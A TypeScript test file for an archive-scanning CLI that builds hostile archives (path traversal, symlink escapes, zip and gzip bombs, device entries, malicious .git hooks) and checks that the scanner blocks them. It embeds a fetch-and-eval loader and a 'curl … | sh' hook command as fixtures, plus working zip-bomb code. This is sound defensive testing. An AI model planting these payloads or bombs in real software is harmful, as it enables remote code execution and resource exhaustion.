/**
 * Hostile archives through the CLI: traversal, absolute names, link and device entries, a 2 GB zip bomb built in
 * 2 MB (one deflate block of zeros repeated after full flushes), a nested bomb, a gzip bomb, a .git folder with
 * hooks and core.fsmonitor, truncated archives, and a loader hidden two archives deep in a folder.
 */
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import tar from 'tar-stream';
import { ustarHeader, zipOf } from '../support/archives.js';
import { assertHygiene, assertIncomplete, PACKAGE_LURE, runCli, sandbox, scanHostile, TASKS_LURE, type Sandbox } from './harness.js';

/** Replace same-length placeholder names in a zip (writers refuse hostile names). */
function patchName(buf: Buffer, from: string, to: string): Buffer {
  assert.equal(from.length, to.length);
  return Buffer.from(buf.toString('latin1').split(from).join(to), 'latin1');
}

async function tarOf(entries: [Partial<tar.Header>, (string | Buffer)?][]): Promise<Buffer> {
  const pack = tar.pack();
  const parts: Buffer[] = [];
  pack.on('data', (d: unknown) => parts.push(d as Buffer));
  const done = new Promise<void>((r) => pack.on('end', () => r()));
  for (const [h, body] of entries) {
    if (body === undefined) pack.entry(h as tar.Header);
    else pack.entry(h as tar.Header, body);
  }
  pack.finalize();
  await done;
  return Buffer.concat(parts);
}

/** A raw-deflate stream of `mib` MiB of zeros without allocating them: one flushed block, repeated. */
async function deflatedZeros(mib: number): Promise<{ data: Buffer; crc: number }> {
  const z = zlib.createDeflateRaw({ level: 9 });
  const got: Buffer[] = [];
  z.on('data', (d: Buffer) => got.push(d));
  const chunk = Buffer.alloc(1 << 20);
  z.write(chunk);
  await new Promise<void>((r) => z.flush(zlib.constants.Z_FULL_FLUSH, () => r()));
  const block = Buffer.concat(got);
  z.destroy();
  let crc = 0;
  for (let i = 0; i < mib; i++) crc = zlib.crc32(chunk, crc);
  return { data: Buffer.concat([...Array.from({ length: mib }, () => block), Buffer.from([0x03, 0x00])]), crc };
}

/** A one-entry zip whose entry inflates to `mib` MiB of zeros. */
async function zipBomb(name: string, mib: number): Promise<Buffer> {
  const { data, crc } = await deflatedZeros(mib);
  const size = mib * 1024 * 1024;
  const fname = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc >>> 0, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(size >>> 0, 22);
  local.writeUInt16LE(fname.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc >>> 0, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(size >>> 0, 24);
  central.writeUInt16LE(fname.length, 28);
  const cdOffset = local.length + fname.length + data.length;
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(1, 8);
  eocd.writeUInt16LE(1, 10);
  eocd.writeUInt32LE(central.length + fname.length, 12);
  eocd.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, fname, data, central, fname, eocd]);
}

describe('hostile archives (CLI, sandboxed)', function () {
  this.timeout(180_000);
  let sb: Sandbox;
  afterEach(() => sb?.cleanup());

  async function scanArchive(name: string, buf: Buffer, extra: string[] = []) {
    const file = path.join(sb.target, name);
    writeFileSync(file, buf);
    return scanHostile(sb, file, extra);
  }

  it('A01 zip-slip (../../), absolute and drive paths, symlink entries to the secret and to /: refused or recorded, never followed', async () => {
    sb = sandbox('a01');
    let zip = await zipOf([
      { name: 'p/package.json', data: PACKAGE_LURE },
      { name: 'p/aaa/aa/escape.js', data: 'x' },
      { name: 'xtmp/evil.sh', data: 'x' },
      { name: 'Q_/win/evil.bat', data: 'x' },
      { name: 'p/secret-link', data: sb.secretFile, mode: 0o120777 },
      { name: 'p/root-link', data: '/', mode: 0o120777 },
      { name: 'p/up-link', data: '../../..', mode: 0o120777 },
    ]);
    zip = patchName(zip, 'p/aaa/aa/escape.js', '../../../escape.js');
    zip = patchName(zip, 'xtmp/evil.sh', '/tmp/evil.sh');
    zip = patchName(zip, 'Q_/win/evil.bat', 'C:/win/evil.bat');
    const { result } = await scanArchive('a01.zip', zip);
    assert.equal(result!.verdict, 'block');
    const refused = result!.diagnostics.filter((d) => d.code === 'archive-unsafe-path').map((d) => d.file);
    assert.deepEqual(refused.sort(), ['../../../escape.js', '/tmp/evil.sh', 'C:/win/evil.bat'].sort());
    assertIncomplete(result, 'archive-unsafe-path');
  });

  it('A02 the same in tar: traversal, absolute, symlink and hard-link entries out of the root', async () => {
    sb = sandbox('a02');
    const buf = await tarOf([
      [{ name: 'p/package.json', type: 'file' }, PACKAGE_LURE],
      [{ name: '../../escape.js', type: 'file' }, 'x'],
      [{ name: '/etc/cron.d/evil', type: 'file' }, 'x'],
      [{ name: 'p/secret', type: 'symlink', linkname: sb.secretFile }],
      [{ name: 'p/rootfs', type: 'symlink', linkname: '/' }],
      [{ name: 'p/hard', type: 'link', linkname: sb.secretFile }],
      [{ name: '../link-out', type: 'symlink', linkname: '/etc' }],
    ]);
    const { result } = await scanArchive('a02.tar', buf);
    assert.equal(result!.verdict, 'block');
    assertIncomplete(result, 'archive-unsafe-path');
    assert.ok(result!.diagnostics.some((d) => d.code === 'symlink-not-followed' && d.file === 'secret'));
  });

  it('A03 a zip bomb (one entry of 2 GB of zeros in 2 MB) is refused by ratio, quickly', async () => {
    sb = sandbox('a03');
    const bomb = await zipBomb('p/zeros.js', 2048);
    assert.ok(bomb.length < 3 * 1024 * 1024);
    const { result } = await scanArchive('a03.zip', bomb);
    assertIncomplete(result, 'archive-bomb');
  });

  it('A04 the same bomb with its ratio hidden by lying headers stops at the size cap', async () => {
    sb = sandbox('a04');
    const bomb = await zipBomb('p/zeros.js', 2048);
    // Claim the entry is as large as it is compressed: no ratio to refuse. yauzl then sees more bytes than claimed.
    const lie = Buffer.from(bomb);
    const compressed = lie.readUInt32LE(18);
    lie.writeUInt32LE(compressed, 22);
    const cd = lie.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    lie.writeUInt32LE(compressed, cd + 24);
    const { result } = await scanArchive('a04.zip', lie);
    assertIncomplete(result, /archive-(?:corrupt|bomb|size-limit)/);
  });

  it('A05 a nested bomb (the 2 GB bomb inside a zip inside a zip): the levels are expanded, the bomb refused by ratio, quickly', async () => {
    sb = sandbox('a05');
    const inner = await zipBomb('zeros.bin', 2048);
    const middle = await zipOf([{ name: 'inner.zip', data: inner, compress: false }, { name: 'inner2.zip', data: inner, compress: false }]);
    const outer = await zipOf([{ name: 'p/middle.zip', data: middle, compress: false }, { name: 'p/.vscode/tasks.json', data: TASKS_LURE }]);
    const { run, result } = await scanArchive('a05.zip', outer);
    assert.equal(result!.verdict, 'block');
    assertIncomplete(result, 'archive-bomb');
    assert.deepEqual(result!.diagnostics.filter((d) => d.code === 'archive-bomb').map((d) => d.file).sort(), ['middle.zip!/inner.zip!/zeros.bin', 'middle.zip!/inner2.zip!/zeros.bin']);
    assert.ok(result!.stats.bytes < 64 * 1024 * 1024, `read ${result!.stats.bytes} bytes`);
    assert.ok(run.ms < 30_000, `took ${run.ms} ms`);
  });

  it('A11 a loader only inside a zip in a zip in the repository folder: read, blocks, every report format survives the nested path', async () => {
    sb = sandbox('a11');
    const loader = "require('https').get('https://fonts-cdn.invalid/api/ipcheck-encrypted/77', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n";
    const inner = await zipOf([{ name: 'setup/install.js', data: loader }]);
    writeFileSync(path.join(sb.target, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0' }));
    mkdirSync(path.join(sb.target, 'assets'));
    writeFileSync(path.join(sb.target, 'assets', 'bundle.zip'), await zipOf([{ name: 'vendor/setup.zip', data: inner }]));
    const { result } = await scanHostile(sb);
    assert.equal(result!.verdict, 'block');
    assert.ok(result!.findings.some((f) => f.location.file === 'assets/bundle.zip!/vendor/setup.zip!/setup/install.js' && f.location.container === 'assets/bundle.zip'));
    for (const format of ['text', 'sarif', 'markdown'] as const) {
      const r = await runCli([sb.target, '--format', format], sb.env);
      assertHygiene(sb, r, { format });
      assert.match(r.stdout, /bundle\.zip/);
    }
  });

  it('A06 a gzip bomb (tar.gz whose one member claims 2 GB of zeros): stopped at the expansion cap', async () => {
    sb = sandbox('a06');
    const header = await tarOf([[{ name: 'p/package.json', type: 'file' }, PACKAGE_LURE]]);
    const head = header.subarray(0, header.length - 1024); // drop the end-of-archive blocks
    const zeroHeader = ustarHeader('p/zeros.js', 2 * 1024 * 1024 * 1024);
    const member = zlib.gzipSync(Buffer.alloc(16 * 1024 * 1024), { level: 9 });
    const tgz = Buffer.concat([zlib.gzipSync(Buffer.concat([head, zeroHeader])), ...Array.from({ length: 128 }, () => member)]);
    const { result } = await scanArchive('a06.tar.gz', tgz);
    assertIncomplete(result);
  });

  it('A07 a tar with character, block and FIFO device entries: skipped with a note, never opened', async () => {
    sb = sandbox('a07');
    const buf = await tarOf([
      [{ name: 'p/dev-null', type: 'character-device', devmajor: 1, devminor: 3 }],
      [{ name: 'p/sda', type: 'block-device', devmajor: 8, devminor: 0 }],
      [{ name: 'p/pipe', type: 'fifo' }],
      [{ name: 'p/index.js', type: 'file' }, 'module.exports = 1;\n'],
    ]);
    const { result } = await scanArchive('a07.tar', buf);
    assert.equal(result!.diagnostics.filter((d) => d.code === 'archive-special-entry').length, 3);
  });

  it('A08 a .git folder inside an archive with hooks, core.fsmonitor and a filter: reported, nothing runs', async () => {
    sb = sandbox('a08');
    const t = sb.touch;
    const zip = await zipOf([
      { name: 'p/package.json', data: JSON.stringify({ name: 'x', version: '1.0.0' }) },
      { name: 'p/.git/HEAD', data: 'ref: refs/heads/main\n' },
      { name: 'p/.git/config', data: `[core]\n\tfsmonitor = ${t}\n\thooksPath = .git/hooks\n[filter "x"]\n\tsmudge = ${t}\n` },
      { name: 'p/.git/hooks/post-checkout', data: `#!/bin/sh\n${t}\n`, mode: 0o100755 },
      { name: 'p/.git/hooks/pre-commit', data: `#!/bin/sh\ncurl -s http://45.61.1.2:1224/pdown | sh\n`, mode: 0o100755 },
      { name: 'p/.gitattributes', data: '* filter=x\n' },
    ]);
    const { result } = await scanArchive('a08.zip', zip);
    assert.notEqual(result!.verdict, 'pass');
    const rules = new Set(result!.findings.map((f) => f.ruleId));
    assert.ok(rules.has('git-config-exec') && rules.has('git-hook-command'), [...rules].join(','));
  });

  it('A09 truncated and garbage archives: a clear error or diagnostic, exit ≤ 3, no stack', async () => {
    sb = sandbox('a09');
    const good = await zipOf([{ name: 'p/package.json', data: PACKAGE_LURE }, { name: 'p/a.js', data: 'x'.repeat(5000) }]);
    for (const [name, buf] of [
      ['trunc.zip', good.subarray(0, Math.floor(good.length / 2))],
      ['garbage.zip', Buffer.from('PK\x03\x04 this is not a zip at all')],
      ['trunc.tar.gz', zlib.gzipSync(Buffer.alloc(4096, 1)).subarray(0, 40)],
      ['empty.tar', Buffer.alloc(0)],
      ['eocd-only.zip', Buffer.concat([Buffer.from([0x50, 0x4b, 0x05, 0x06]), Buffer.alloc(18)])],
    ] as const) {
      const { run, result } = await scanArchive(name, buf);
      if (result) assert.equal(result.verdict === 'pass' && result.complete && result.stats.files > 0, false, `${name}: clean pass of a broken archive`);
      else assert.match(run.stderr, /lurescan/, name);
    }
  });

  it('A10 an archive whose entry names carry escapes and ::error:: survive every report format', async () => {
    sb = sandbox('a10');
    let zip = await zipOf([{ name: 'p/NAMEXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX/package.json', data: PACKAGE_LURE }]);
    zip = patchName(zip, 'NAMEXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX', 'a\x1b[31m\n::error::x\r\x07\u009b6nzzzzzzzzzzzzzzzzzzz'.slice(0, 34).padEnd(34, 'z'));
    const { result } = await scanArchive('a10.zip', zip);
    assert.equal(result!.verdict, 'block');
  });
});
